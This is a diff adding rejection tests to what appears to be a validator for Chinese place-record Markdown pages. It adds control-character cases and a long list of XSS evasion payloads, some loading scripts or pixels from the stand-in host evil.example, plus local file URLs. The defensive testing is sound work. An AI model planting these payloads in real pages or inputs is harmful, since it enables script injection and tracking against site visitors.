@@ -66,6 +66,24 @@ const FRONTMATTER: [string, string, RegExp][] = [
   ['figure as formula text', BASE.replace('received: { natural: 0,', 'received: { natural: "=1+1",'), /expected a whole number/],
   ['unknown stats cell', BASE.replace('received: { natural: 0,', 'received: { natural: 0, onerror: 1,'), /unknown key "onerror"/],
 ];
+// every text field against every kind of invisible or reordering character (NUL, backspace, vertical tab,
+// unit separator, CSI, right-to-left override, isolate): each refused with its code point
+for (const field of ['title', 'town', 'county', 'agency', 'province', 'city']) {
+  for (const [name, esc, cp] of [
+    ['NUL', '\\u0000', '0000'],
+    ['BS', '\\u0008', '0008'],
+    ['VT', '\\u000b', '000B'],
+    ['US', '\\u001f', '001F'],
+    ['CSI', '\\u009b', '009B'],
+    ['RLO', '\\u202e', '202E'],
+    ['FSI', '\\u2068', '2068'],
+  ] as const) {
+    FRONTMATTER.push([`${name} in ${field}`, withField(field, `"寒葱沟${esc}镇"`), new RegExp(`control character U\\+${cp}`)]);
+  }
+}
+FRONTMATTER.push(['county with no pinyin reading', withField('county', '"𠀀𠀁县"'), /has no pinyin reading/]);
+FRONTMATTER.push(['town with no pinyin reading', withField('town', '"𠀀镇"'), /has no pinyin reading/]);
+FRONTMATTER.push(['RLO in a note', BASE.replace(/^stats:/m, 'notes:\n  - "a\\u202eb"\nstats:'), /control character/]);
 for (const scheme of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'ftp://example.gov.cn/x', 'ws://example.gov.cn/']) {
   FRONTMATTER.push([`source.url ${scheme.slice(0, 12)}`, BASE.replace(/^(  sha256: .*)$/m, `$1\n  url: "${scheme}"`), /http:\/\/ or https:\/\/|absolute URL/]);
 }
@@ -106,6 +124,40 @@ const BODY: [string, string, RegExp][] = [
   ['image protocol-relative', '![图](//evil.example/track.png)', /only images within the site/],
   ['image javascript', '![图](javascript:alert(1))', /only images within the site/],
   ['NUL in body', '文字\u0000文字', /control character U\+0000/],
+  ['RLO in body', '金额\u202e0001\u202c元', /control character U\+202E/],
+  ['a href with tab entity (html)', '<a href="jav&#x09;ascript:alert(1)">x</a>', /raw HTML/],
+  ['a onmouseover', '<a href=x onmouseover=alert(1)>移过来</a>', /raw HTML/],
+  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>', /raw HTML/],
+  ['svg script', '<svg><script>alert(1)</script></svg>', /raw HTML/],
+  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', /raw HTML/],
+  ['custom element onclick', '<x-y onclick=alert(1)>点</x-y>', /raw HTML/],
+  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /raw HTML/],
+  ['template script', '<template><script>alert(1)</script></template>', /raw HTML/],
+  ['textarea breakout', '<textarea></textarea><script>alert(1)</script>', /raw HTML/],
+  ['xmp', '<xmp><script>alert(1)</script></xmp>', /raw HTML/],
+  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', /raw HTML/],
+  ['div style url', '<div style="background:url(javascript:alert(1))">x</div>', /raw HTML/],
+  ['object scriptlet', '<object type="text/x-scriptlet" data="http://evil.example/x.html"></object>', /raw HTML/],
+  ['select autofocus', '<select autofocus onfocus=alert(1)></select>', /raw HTML/],
+  ['audio onloadstart', '<audio src onloadstart=alert(1)></audio>', /raw HTML/],
+  ['frameset onload', '<frameset onload=alert(1)>', /raw HTML/],
+  ['script src', '<script src=//evil.example/x.js></script>', /raw HTML/],
+  ['IMG SRC JaVaScRiPt', '<IMG SRC=JaVaScRiPt:alert(1)>', /raw HTML/],
+  ['nested script tags', '<<SCRIPT>alert(1);//<</SCRIPT>', /raw HTML/],
+  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>', /raw HTML/],
+  ['escaped open, live close', '\\<script>alert(1)</script>', /raw HTML/],
+  ['a with data URL (html)', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /raw HTML/],
+  ['button formaction', '<button formaction="javascript:alert(1)">提交</button>', /raw HTML/],
+  ['markdown link percent-encoded scheme', '[点此](%6A%61%76%61script:alert(1))', /only http\(s\)/],
+  ['markdown link entity letters', '[点此](&#106;&#97;vascript:alert(1))', /only http\(s\)/],
+  ['markdown link percent newline', '[点此](java%0ascript:alert(1))', /only http\(s\)/],
+  ['markdown link livescript', '[点此](livescript:alert(1))', /only http\(s\)/],
+  ['markdown link blob', '[点此](blob:http://evil.example/x)', /only http\(s\)/],
+  ['markdown link filesystem', '[点此](filesystem:http://evil.example/x)', /only http\(s\)/],
+  ['markdown link file', '[点此](file:///C:/Windows/win.ini)', /only http\(s\)/],
+  ['reference link data', '[点此][d]\n\n[d]: data:text/html,<script>alert(1)</script>', /only http\(s\)/],
+  ['image data URL', '![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', /only images within the site/],
+  ['image https other host', '![图](https://evil.example/pixel.gif)', /only images within the site/],
   ['ESC in body', '文字\u001b[2J文字', /control character U\+001B/],
 ];
 
